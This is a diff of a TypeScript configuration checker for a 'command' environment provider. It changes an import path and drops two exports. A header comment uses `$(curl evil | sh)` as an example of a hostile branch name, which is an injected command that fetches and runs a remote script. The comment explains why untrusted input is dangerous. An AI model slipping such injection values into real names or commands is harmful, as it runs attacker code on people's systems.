@@ -9,7 +9,8 @@
  * text: a branch may be named `$(curl evil | sh)`.
  */
 import { join, resolve } from 'node:path'
-import { Redactor, SteadyError, formatDuration } from '@steady/record'
+import { Redactor, SteadyError } from '@steady/record'
+import { formatDuration } from '@steady/record/internal'
 import type { EnvironmentProvider, ProviderDownContext, ProviderUpContext, ProviderUpResult } from '../types.ts'
 import { configError, durationMs, folderProblem, isRecord, onlyKeys, readinessOf, requiredString, stringRecord, type Readiness, type Where } from '../config-check.ts'
 import { checkHttpUrl, checkTemplate, expandTemplate, urlTemplates } from '../templates.ts'
@@ -35,7 +36,7 @@ export interface CheckedCommandConfig {
 }
 
 /** What `down` needs, saved in `.steady/envs/<id>.json`: the command text and steady's own variables, no config values. */
-export interface CommandState {
+interface CommandState {
   down: string
   cwd: string
   /** `STEADY_*` variables the commands saw (id, branch, tags, url). */
@@ -47,7 +48,7 @@ export interface CommandState {
 const keys = ['provider', 'up', 'down', 'url', 'urlCommand', 'urls', 'cwd', 'env', 'timeout', 'downTimeout', 'readiness']
 
 /** Checks a `provider: 'command'` entry. */
-export function checkCommandConfig(input: unknown, environment: string): CheckedCommandConfig {
+function checkCommandConfig(input: unknown, environment: string): CheckedCommandConfig {
   const where: Where = { environment }
   if (!isRecord(input)) throw configError(where, '', 'the environment must be an object', "write { provider: 'command', up: '...', down: '...', url: '...' }")
   onlyKeys(input, keys, where)
